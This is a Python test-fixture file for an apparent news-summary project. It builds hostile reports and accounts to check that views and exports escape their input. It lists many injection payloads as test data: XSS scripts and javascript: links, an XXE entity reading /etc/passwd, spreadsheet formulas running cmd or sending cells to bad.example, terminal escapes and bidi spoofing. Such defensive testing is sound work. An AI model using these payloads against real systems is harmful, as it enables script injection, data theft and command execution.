"""Reports and drafts that try to be more than text, for tests of every view and export."""

from dataclasses import replace

from secondsource.records.brief import (
    Account,
    Brief,
    BriefAnswer,
    Figure,
    Line,
    Moment,
    SaidLine,
    Section,
    SetAside,
)
from secondsource.records.evidence import Passage
from secondsource.records.finding import CheckAnswer, Finding, Verdict
from secondsource.records.layers import Polarity, Precision, Status
from secondsource.records.report import Report
from secondsource.records.story import (
    Alignment,
    Claim,
    Kind,
    Origin,
    Point,
    Relation,
    Side,
    Story,
)
from tests.build import PUBLISHED
from tests.cli.build_accounts import ACCOUNT, MAKER, passage

HOSTILE = Report.from_text(
    "Rain\x1b[31m fell\x07 on \u202eharbour\u202c | `roofs` <b>today</b> ![x](http://bad.example/i).",
    outlet="Evil\x1b]8;;http://bad.example\x07 Post",
    title="[click](javascript:alert)",
    url="javascript:alert(1)",
)


def hostile() -> BriefAnswer:
    """A story of one report that tries to be more than text."""
    cites = (passage(HOSTILE, HOSTILE.text),)
    brief = replace(ACCOUNT.brief, lines=(Line(Section.SINGLE, HOSTILE.text, cites),))
    alignment = replace(ACCOUNT.alignment, origins=(), claims=(), points=())
    story = replace(ACCOUNT.story, headline=HOSTILE.title, report_ids=(HOSTILE.id,))
    account = replace(ACCOUNT, story=story, reports=(HOSTILE,), alignment=alignment, brief=brief)
    return BriefAnswer((account,), ())


ATTACKS = (
    "</details><script>alert(1)</script>",
    "![x](http://bad.example/i) [click](javascript:alert)",
    "# Heading",
    "> quote",
    "- [ ] task",
    "1234. item",
    "```\nfence",
    "&lt;b&gt; &amp; &#60;i>",
    "line\n\n# two\n<img src=x>",
    "<!-- hidden",
    "| a | b |\n|---|---|",
    "[^1]: note",
    "a\\",
)


def hostile_check(words: str) -> CheckAnswer:
    """A draft, a report and a note that all say `words`."""
    report = Report.from_text(words, outlet=words, title=words, url="https://post.example/a")
    cites = (Passage(report.id, 0, len(words)),)
    finding = Finding(0, len(words), Verdict.CONTRADICTED, Kind.NUMBER, False, cites, words, MAKER)
    return CheckAnswer(words, (finding,), (report,), (), (SetAside(words, words),))


# What has broken out of pages, feeds, tables and terminals; none may break out of ours.
HOSTILE_STRINGS = (
    *ATTACKS,
    # scripts and elements
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    '"><script>window.ran=1</script>',
    "' autofocus onfocus='window.ran=1",
    '" onmouseover="window.ran=1',
    "</title><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://bad.example'>",
    "<base href=https://bad.example/>",
    "<a href=javascript:window.ran=1>click</a>",
    "<math><mi xlink:href=javascript:window.ran=1>x",
    "<form action=https://bad.example><button>go",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    # addresses
    "javascript:window.ran=1",
    " \tjava\nscript:window.ran=1",
    "JaVaScRiPt://x%0Awindow.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    'https://ok.example/"onmouseover=window.ran=1',
    "[a](javascript:window.ran=1) <javascript:window.ran=1>",
    "[a]: javascript:window.ran=1 'b'",
    "![a][b] [b]: https://bad.example/i.png",
    # XML
    "]]>",
    "<![CDATA[<b>x</b>]]>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "</div></content></entry></feed>",
    "<?xml version='1.0'?><?php evil() ?>",
    "&bogus; &#0; &#xD800; &#x1F;",
    # formulas
    '=HYPERLINK("https://bad.example?x="&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000\u200b\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe66\u207a1",
    "\u22122+3",
    "'=1+1",
    '"=1+1"',
    'a,b;c\t"d"\r\n"=1+1",',
    # characters
    "nul \0 bell \x07 escape \x1b[31m delete \x7f",
    "next line \x85 and csi \x9b31m",
    "\x1b]8;;https://bad.example\x07click\x1b]8;;\x07",
    "invoice \u202efdp.exe",
    "isolate \u2066\u2067\u2068 left open",
    "half a character \ud83d and the other \udd25",
    "not a character \ufffe \uffff \U0001fffe",
    "line\u2028separator\u2029 and\x0bvertical\x0cfeed",
    "e\u0301" + "\u0301" * 60,
    "\U0001f469\u200d\U0001f692 and \U000e0041\U000e0042",
    "a" * 5000,
)


def hostile_account(words: str, number: int = 0) -> Account:
    """A story that says `words` wherever a report, a reader or a model can say anything."""
    report = Report.from_text(
        words, ref=words, outlet=words, title=words, byline=words, url=words, language=words,
        published=PUBLISHED,
    )  # fmt: skip
    other = Report.from_text(
        f"{words} {words}", title=words, url="https://ok.example/", published=PUBLISHED
    )
    said = Passage(report.id, 0, len(words)), Passage(other.id, len(words) + 1, len(other.text))
    claims = tuple(_claim(f"claim-{at}", one, words) for at, one in enumerate(said))
    return Account(
        story=Story(
            f"{words}{number}", words, (report.id, other.id), PUBLISHED, None, None, words, MAKER
        ),
        reports=(report, other),
        alignment=Alignment(
            (Origin(words, (report.id, other.id), (words,), MAKER),), claims, _points(words), ()
        ),
        quotes=tuple(SaidLine(one, words) for one in said),
        figures=tuple(Figure(one, -1.5, 1e300, words, words) for one in said),
        timeline=(Moment(PUBLISHED, Precision.DAY, words, said),),
        brief=Brief(
            words,
            f"{words}{number}",
            tuple(
                Line(section, f"{words}: {words}", said, f"point-{section}") for section in Section
            ),
            PUBLISHED,
            MAKER,
        ),
    )


def _claim(name: str, said_in: Passage, words: str) -> Claim:
    return Claim(
        name, said_in, words, words, Polarity.AFFIRMED, Status.DONE, words, words, words, (), (),
        (words,), (words,),
    )  # fmt: skip


def _points(words: str) -> tuple[Point, ...]:
    sides = tuple(Side(words, (f"claim-{at}",), (words,)) for at in range(2))
    relations = {"disputed": Relation.CONFLICT, "changed": Relation.UPDATE}
    return tuple(
        Point(
            f"point-{section}", words, relations.get(section, Relation.AGREE),
            Kind.NUMBER if section in relations else None, words, sides, 2, (words,), MAKER,
        )
        for section in Section
    )  # fmt: skip
